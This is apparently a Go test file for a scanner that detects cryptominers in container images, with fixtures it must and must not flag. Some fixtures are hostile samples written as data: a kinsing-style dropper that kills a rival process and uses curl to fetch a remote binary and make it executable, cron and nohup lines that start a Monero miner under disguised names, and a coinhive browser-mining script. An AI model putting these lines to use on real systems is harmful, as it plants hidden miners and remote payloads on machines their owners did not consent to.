package miner

import (
	"context"
	"io/fs"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/customs-oss/customs/internal/check"
	"github.com/customs-oss/customs/internal/facts"
	"github.com/customs-oss/customs/internal/report"
)

const xmrWallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

// runContent runs every miner content check that wants the entry, as the
// layer pass does, and returns "check severity" for each finding.
func runContent(t *testing.T, e facts.Entry, data []byte) []string {
	t.Helper()
	e.Size = int64(len(data))
	var out []string
	for _, ctor := range Checks() {
		cc, ok := ctor().(check.ContentChecker)
		if !ok || !cc.Wants(&e) {
			continue
		}
		fs, err := cc.CheckContent(context.Background(), &e, data)
		if err != nil {
			t.Fatalf("%s: %v", cc.Info().ID, err)
		}
		for _, f := range fs {
			if f.Evidence.Path != "/"+e.Path {
				t.Errorf("%s: evidence path %q, want %q", f.Check, f.Evidence.Path, "/"+e.Path)
			}
			if f.Message == "" || f.Evidence.Value == "" {
				t.Errorf("%s: finding without message or evidence value: %+v", f.Check, f)
			}
			if strings.Contains(f.Message, xmrWallet) || strings.Contains(f.Evidence.Value, xmrWallet) {
				t.Errorf("%s: wallet shown whole: %s", f.Check, f.Message)
			}
			out = append(out, f.Check+" "+f.Severity.String())
		}
	}
	return out
}

func fileEntry(p string, mode fs.FileMode) facts.Entry {
	return facts.Entry{Path: p, Type: facts.TypeFile, Mode: mode}
}

func TestContent(t *testing.T) {
	// The go command: a large Go binary (not this test binary, which
	// holds the test's own miner strings).
	goPath, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command to read")
	}
	goBinary, err := os.ReadFile(goPath)
	if err != nil {
		t.Fatal(err)
	}
	goBinary = goBinary[:min(len(goBinary), 8<<20)]
	tests := []struct {
		name  string
		entry facts.Entry
		data  string
		want  []string
	}{
		{"nohup miner script", fileEntry("app/start.sh", 0o755),
			"#!/bin/sh\nnohup ./x -o stratum+tcp://pool.minexmr.com:4444 -u " + xmrWallet + " &\n",
			[]string{"miner/pool critical", "miner/wallet critical", "miner/cli-flags critical"}},
		{"xmrig flags in a cron job", fileEntry("etc/cron.d/update", 0o644),
			"*/5 * * * * root /usr/bin/kworker --donate-level 1 --cpu-max-threads-hint 50 -B\n",
			[]string{"miner/cli-flags critical"}},
		{"kinsing dropper script", fileEntry("tmp/d.sh", 0o755),
			"#!/bin/sh\npkill -f kdevtmpfsi\ncurl -s http://203.0.113.9/kinsing -o /tmp/kinsing && chmod +x /tmp/kinsing\n",
			[]string{"miner/binary critical"}},
		{"wallet alone in an env file", fileEntry("app/.env", 0o644), "PAYOUT=" + xmrWallet + "\n",
			[]string{"miner/wallet high"}},
		{"weak eth address alone", fileEntry("app/config.yaml", 0o644), "contract: 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed\n", nil},
		{"pool domain in a systemd unit", fileEntry("etc/systemd/system/k.service", 0o644),
			"[Service]\nExecStart=/opt/k --url gulf.moneroocean.stream:10128\n", []string{"miner/pool critical"}},
		{"cpuminer json config", fileEntry("opt/cfg.json", 0o644),
			`{"url": "stratum+tcp://xmr.f2pool.com:13531", "user": "` + xmrWallet + `", "algo": "cryptonight"}`,
			[]string{"miner/config critical", "miner/pool critical", "miner/wallet critical"}},
		{"coinhive page", fileEntry("var/www/html/index.html", 0o644),
			`<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m = new CoinHive.Anonymous('KEY');m.start();</script>`,
			[]string{"miner/browser critical"}},
		{"cryptonight wasm", fileEntry("srv/www/cn.wasm", 0o644), "\x00asm\x01\x00\x00\x00\x07\x14\x02\x10cryptonight_hash\x00\x00cryptonight\x00", []string{"miner/browser critical"}},
		{"upx packed executable", fileEntry("usr/local/bin/app", 0o755), "\x7fELF\x02\x01\x01\x00UPX!\x00$Info: This file is packed with the UPX executable packer $", []string{"miner/binary medium"}},
		{"upx packed with a pool", fileEntry("usr/local/bin/app", 0o755), "\x7fELF\x02\x01\x01\x00UPX!\x00$Info: This file is packed with the UPX\x00c3pool.com\x00", []string{"miner/binary critical"}},

		// Must not fire.
		{"random base58 string", fileEntry("app/token.txt", 0o644), "token=4" + strings.Repeat("Ab3", 31) + "x\nid=1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3\n", nil},
		{"go binary", fileEntry("usr/local/bin/tool", 0o755), string(goBinary), nil},
		{"docs about the stratum protocol", fileEntry("usr/share/doc/pool/README.md", 0o644),
			"Stratum is a line-based protocol. Connect with stratum+tcp://pool.example:3333 and call mining.subscribe.\n", nil},
		{"python stratum library source", fileEntry("usr/lib/python3/dist-packages/stratum/protocol.py", 0o644),
			"'''Stratum protocol: stratum+tcp:// URLs'''\nclass Protocol:\n    def subscribe(self):\n        return self.rpc('mining.subscribe')\n", nil},
		{"stratum mention in an app script", fileEntry("app/net.py", 0o644), "# the Stratum layer of our video pipeline\nimport stratum\n", nil},
		{"debian cron.daily script", fileEntry("etc/cron.daily/dpkg", 0o755),
			"#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n", nil},
		{"busybox-style binary naming nc", fileEntry("bin/busybox", 0o755), "\x7fELF\x02\x01\x01\x00nc\x00netcat\x00wget\x00randomx\x00", nil},
		{"fake key in node_modules test", fileEntry("app/node_modules/x/test/fixtures/config.json", 0o644),
			`{"pools":[{"url":"stratum+tcp://pool.minexmr.com:4444","user":"` + xmrWallet + `"}],"donate-level":1}`, nil},
		{"ordinary package.json", fileEntry("app/node_modules/express/package.json", 0o644),
			`{"name":"express","repository":{"type":"git","url":"git+https://github.com/expressjs/express.git"},"url":"https://expressjs.com/"}`, nil},
		{"adblock list naming coinhive", fileEntry("etc/hosts.blocklist", 0o644), "0.0.0.0 coinhive.com\n0.0.0.0 authedmine.com\n", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := runContent(t, tt.entry, []byte(tt.data))
			if strings.Join(got, ",") != strings.Join(tt.want, ",") {
				t.Errorf("findings = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestSeverities(t *testing.T) {
	for _, ctor := range Checks() {
		c := ctor()
		if c.Info().Severity != report.SeverityCritical || c.Info().Item != report.ItemMalicious {
			t.Errorf("%s: severity %v item %v", c.Info().ID, c.Info().Severity, c.Info().Item)
		}
	}
}
